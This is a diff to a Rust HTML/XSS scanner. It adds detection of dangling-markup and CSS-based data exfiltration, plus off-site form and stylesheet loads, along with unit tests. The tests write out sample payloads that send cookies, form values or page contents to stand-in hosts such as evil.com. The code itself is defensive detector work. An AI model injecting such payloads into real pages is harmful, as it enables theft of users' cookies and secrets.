@@ -13,6 +13,15 @@ pub struct XssFindings {
     pub event_handler: bool,
     /// A `javascript:`/`vbscript:`/`data:text/html` URL or a CSS expression in an attribute.
     pub script_uri: bool,
+    /// Markup that sends the page to another site without script: a URL or `value`
+    /// attribute left open to the end (dangling markup, which swallows the page up
+    /// to the next quote into the URL), or a stylesheet whose off-site `url()`
+    /// depends on what the page holds (attribute-value selectors, `attr()`,
+    /// `unicode-range`).
+    pub leaks: bool,
+    /// Markup that loads from or posts to another site: a `<style>` with an
+    /// off-site `url()`, a `<form>` with an off-site action and an input.
+    pub offsite: bool,
 }
 
 impl XssFindings {
@@ -131,11 +140,56 @@ fn active_css(css: &str) -> bool {
         || css_escapes(css) >= 4
 }
 
+/// Attributes whose value, left open, carries the rest of the page somewhere: URLs
+/// that are fetched or submitted, and form values.
+const LEAK_ATTRIBUTES: &[&str] = &[
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "background",
+    "poster",
+    "data",
+    "srcset",
+    "ping",
+    "codebase",
+    "xlink:href",
+    "content",
+    "value",
+];
+
+fn leaky_attr(attr: &str) -> bool {
+    LEAK_ATTRIBUTES.contains(&attr)
+}
+
+/// True when a URL (after quotes and spaces) points to another host: `//host` or
+/// an absolute http(s) URL.
+fn offsite_value(v: &str) -> bool {
+    let v = v.trim_start_matches(|c: char| c <= ' ' || matches!(c, '"' | '\'' | '`'));
+    v.starts_with("//") || v.starts_with("http://") || v.starts_with("https://")
+}
+
+/// A stylesheet `url()` that points to another host.
+fn offsite_url(css: &str) -> bool {
+    css.match_indices("url(")
+        .any(|(p, _)| offsite_value(&css[p + 4..]))
+}
+
+/// CSS that picks what it loads by what the page holds: attribute selectors that
+/// match a prefix, suffix or substring (`input[value^="a"]`), `attr()`, and a
+/// font's `unicode-range`.
+fn css_reads_page(css: &str) -> bool {
+    ["^=", "$=", "*=", "attr(", "unicode-range"]
+        .iter()
+        .any(|p| css.contains(p))
+}
+
 /// Scans `s` (decoded, lowercased) for script-running HTML.
 pub fn scan(s: &str) -> XssFindings {
     let mut f = XssFindings::default();
     let b = s.as_bytes();
     let mut i = 0;
+    let mut offsite_form = false;
     while let Some(p) = s[i..].find('<') {
         let start = i + p + 1;
         i = start;
@@ -144,8 +198,11 @@ pub fn scan(s: &str) -> XssFindings {
         while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b':' | b'-' | b'_')) {
             j += 1;
         }
-        // `<?xml-stylesheet href=...?>` loads a stylesheet (and its script) too.
-        if j == start && s[start..].starts_with("?xml-stylesheet") {
+        // `<?xml-stylesheet href=...?>` loads a stylesheet (and its script) too, and
+        // IE's `<?import implementation=...>` a behavior.
+        if j == start
+            && (s[start..].starts_with("?xml-stylesheet") || s[start..].starts_with("?import"))
+        {
             f.dangerous_tag = true;
             continue;
         }
@@ -164,6 +221,13 @@ pub fn scan(s: &str) -> XssFindings {
             if active_css(body) {
                 f.script_uri = true;
             }
+            if offsite_url(body) {
+                f.offsite = true;
+                f.leaks |= css_reads_page(body);
+            }
+        }
+        if matches!(local, "input" | "button" | "textarea" | "select") && offsite_form {
+            f.offsite = true;
         }
         // `<link rel=stylesheet|import href=...>` loads code from elsewhere, and so
         // does `<meta http-equiv=link content="<...>; rel=stylesheet">`.
@@ -192,6 +256,11 @@ pub fn scan(s: &str) -> XssFindings {
                 while k < b.len() && b[k] <= b' ' {
                     k += 1;
                 }
+                // `value=` with nothing after it: what follows in the page becomes
+                // the value.
+                if k >= b.len() && leaky_attr(attr) {
+                    f.leaks = true;
+                }
                 if k < b.len() && matches!(b[k], b'"' | b'\'' | b'`') {
                     let q = b[k];
                     let vs = k + 1;
@@ -200,6 +269,10 @@ pub fn scan(s: &str) -> XssFindings {
                         .position(|c| c == q)
                         .map_or(b.len(), |p| vs + p);
                     value = &s[vs..ve];
+                    // A quote never closed, with no tag after it: dangling markup.
+                    if ve == b.len() && leaky_attr(attr) && !value.contains(['<', '>']) {
+                        f.leaks = true;
+                    }
                     k = (ve + 1).min(b.len());
                 } else {
                     let vs = k;
@@ -237,6 +310,9 @@ pub fn scan(s: &str) -> XssFindings {
             }
             if local == "meta" && attr == "http-equiv" && value == "link" {
                 meta_link = true;
+            }
+            if local == "form" && matches!(attr, "action" | "formaction") && offsite_value(value) {
+                offsite_form = true;
             }
             if local == "link" {
                 loads |=
@@ -301,6 +377,41 @@ mod tests {
         assert!(
             !scan("<meta http-equiv=\"refresh\" content=\"30;url=https://example.com/\">").any()
         );
+    }
+
+    #[test]
+    fn dangling_markup_and_css_exfiltration_leak() {
+        for a in [
+            "<img src=\"https://evil.com/collect?cookie=",
+            "<form action=\"https://evil.com/c\"><input name=data value=\"",
+            "<form action=//attacker/ method=post><input name=secret value=",
+            "<style>input[value^=\"a\"]{background:url(//evil.com?a)}</style>",
+            "<style>@font-face{font-family:x;src:url('//evil.com/l');unicode-range:u+0041}</style>",
+            "<style>.x::before{content:attr(data-s);background:url(\"https://evil.com/\")}</style>",
+        ] {
+            assert!(scan(a).leaks, "missed {a}");
+        }
+        for b in [
+            "<img src=\"https://example.com/a.png\">",
+            "<a href=\"foo>bar</a>",
+            "<div style=\"color: red",
+            "<style>p{background:url(/img/bg.png)}</style>",
+            "<style>a[href^=\"http\"]{color:red}</style>",
+            "<input value=\"\">",
+            "see <img src=\"x.png\"> and <b>bold",
+        ] {
+            assert!(!scan(b).leaks, "flagged {b}");
+        }
+    }
+
+    #[test]
+    fn offsite_stylesheets_and_forms_are_found() {
+        assert!(scan("<style>body{background:url(\"https://evil.com/w\")}</style>").offsite);
+        assert!(scan("<form action=\"https://evil.com/s\"><input name=\"p\"></form>").offsite);
+        assert!(!scan("<form action=\"/search\"><input name=\"q\"></form>").offsite);
+        assert!(!scan("<form action=\"https://evil.com/s\"></form>").offsite);
+        assert!(!scan("<style>p{color:red}</style>").offsite);
+        assert!(scan("<?import namespace=\"x\" implementation=\"http://a/x.htc\">").dangerous_tag);
     }
 
     #[test]
